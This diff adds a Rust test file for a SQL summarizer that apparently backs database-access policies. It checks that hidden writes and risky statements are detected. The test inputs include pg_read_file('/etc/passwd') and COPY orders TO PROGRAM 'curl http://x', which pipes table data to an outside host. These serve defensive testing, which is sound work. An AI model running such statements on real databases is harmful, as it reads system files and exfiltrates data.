@@ -1,0 +1,131 @@
+//! What the summary says about SQL that policies care about, including the
+//! shapes people use to slip a statement past a naive filter.
+
+use super::*;
+
+fn one(sql: &str) -> StatementSummary {
+    let s = summarize(sql);
+    assert_eq!(s.parse_error, None, "{sql}");
+    assert_eq!(s.statements.len(), 1, "{sql}");
+    s.statements.into_iter().next().unwrap()
+}
+
+fn names(t: &[TableName]) -> Vec<String> {
+    t.iter()
+        .map(|t| match &t.schema {
+            Some(s) => format!("{s}.{}", t.name),
+            None => t.name.clone(),
+        })
+        .collect()
+}
+
+#[test]
+fn kinds_and_tables() {
+    let s = one("SELECT c.name FROM public.customers c JOIN orders o ON o.customer_id = c.id");
+    assert_eq!(s.kind, "select");
+    assert_eq!(names(&s.tables_read), ["orders", "public.customers"]);
+    assert!(s.tables_written.is_empty());
+
+    let s = one("update ORDERS set status = 'x' where id = 1");
+    assert_eq!(s.kind, "update");
+    assert_eq!(names(&s.tables_written), ["orders"]);
+    assert!(s.has_where);
+
+    let s = one("DELETE FROM sales.orders");
+    assert_eq!(s.kind, "delete");
+    assert_eq!(names(&s.tables_written), ["sales.orders"]);
+    assert!(!s.has_where);
+}
+
+#[test]
+fn writes_hidden_in_ctes_and_explain_are_seen() {
+    let s = one("WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d");
+    assert_eq!(s.kind, "select");
+    assert_eq!(names(&s.tables_written), ["orders"]);
+    assert!(!s.has_where);
+    assert!(
+        s.tables_read.is_empty(),
+        "the CTE name is not a table: {:?}",
+        s.tables_read
+    );
+
+    let s = one("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders");
+    assert_eq!(s.kind, "explain");
+    assert!(s.explain_analyze);
+    assert!(!s.has_where);
+    assert!(!one("EXPLAIN DELETE FROM orders").explain_analyze);
+    assert!(!one("EXPLAIN (ANALYZE false) DELETE FROM orders").explain_analyze);
+}
+
+#[test]
+fn functions_anywhere_are_found() {
+    for sql in [
+        "SELECT pg_read_file('/etc/passwd')",
+        "SELECT ARRAY[pg_catalog.pg_read_file('/etc/passwd')]",
+        "SELECT * FROM orders WHERE id IN (SELECT length(pg_read_file('x')))",
+        "SELECT CASE WHEN true THEN pg_read_file('x') END",
+        "SELECT (pg_read_file('x'))::text",
+        "SELECT coalesce(null, PG_READ_FILE('x'))",
+    ] {
+        let s = one(sql);
+        assert!(
+            s.functions.iter().any(|f| f.ends_with("pg_read_file")),
+            "{sql}: {:?}",
+            s.functions
+        );
+    }
+}
+
+#[test]
+fn copy_and_role_switching() {
+    let s = one("COPY orders TO PROGRAM 'curl http://x'");
+    assert!(s.is_copy && s.copy_program);
+    assert_eq!(names(&s.tables_read), ["orders"]);
+    let s = one("COPY orders FROM STDIN");
+    assert!(s.is_copy && !s.copy_program);
+    assert_eq!(names(&s.tables_written), ["orders"]);
+    assert_eq!(one("SET ROLE admin").kind, "set-role");
+    assert_eq!(
+        one("set session authorization postgres").kind,
+        "set-session-authorization"
+    );
+    assert_eq!(one("RESET ALL").kind, "reset");
+    assert_eq!(one("SET search_path = x").kind, "set");
+    assert_eq!(one("DROP TABLE public.orders").kind, "drop");
+    assert_eq!(
+        names(&one("DROP TABLE public.orders").tables_written),
+        ["public.orders"]
+    );
+    assert_eq!(
+        one("ALTER SYSTEM SET work_mem = '1GB'").kind,
+        "alter-system"
+    );
+    assert_eq!(one("DO $$ BEGIN PERFORM 1; END $$").kind, "do");
+    assert_eq!(one("TRUNCATE orders").kind, "truncate");
+}
+
+#[test]
+fn multiple_statements_and_garbage() {
+    let s = summarize("SELECT 1; DELETE FROM orders; SELECT 2");
+    assert_eq!(s.statements.len(), 3);
+    assert_eq!(s.statements[1].kind, "delete");
+    assert!(!s.fingerprint.is_empty());
+
+    let bad = summarize("SELEC * FROM");
+    assert!(bad.parse_error.is_some());
+    assert!(bad.statements.is_empty());
+
+    // Same fingerprint for statements that differ only in constants.
+    assert_eq!(
+        summarize("SELECT * FROM t WHERE id = 1").fingerprint,
+        summarize("SELECT * FROM t WHERE id = 42").fingerprint
+    );
+}
+
+#[test]
+fn cache_returns_the_same_summary() {
+    let cache = SummaryCache::default();
+    let a = cache.get("SELECT 1");
+    let b = cache.get("SELECT 1");
+    assert!(Arc::ptr_eq(&a, &b));
+}
